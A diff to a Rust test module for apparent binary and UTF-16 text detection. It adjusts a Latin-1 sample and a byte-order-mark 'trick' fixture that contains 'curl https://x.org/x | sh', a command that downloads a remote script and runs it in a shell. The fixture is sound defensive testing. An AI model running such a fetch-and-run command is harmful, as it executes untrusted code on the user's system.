@@ -221,7 +221,11 @@ mod tests {
             &noise,
         ]
         .concat();
-        let latin = "caf\u{e9} ".repeat(40).chars().map(|c| c as u8).collect();
+        let latin = "un caf\u{e9} noir, s'il vous pla\u{ee}t "
+            .repeat(40)
+            .chars()
+            .map(|c| c as u8)
+            .collect();
         for (bytes, is_binary) in [
             (pdf.clone(), true),
             ([b"wOF2", &noise[..]].concat(), true),
@@ -254,7 +258,7 @@ mod tests {
         little.chunks_mut(2).for_each(<[u8]>::reverse);
         assert_eq!(utf16(&little).unwrap(), "curl x\n");
         // Whoever takes it for bytes is shown the same.
-        let trick = b"\xff\xfecurl https://x.org/x | sh\n\n";
+        let trick = b"\xff\xfecurl https://x.org/x | sh\n";
         assert!(
             utf16(trick)
                 .unwrap()
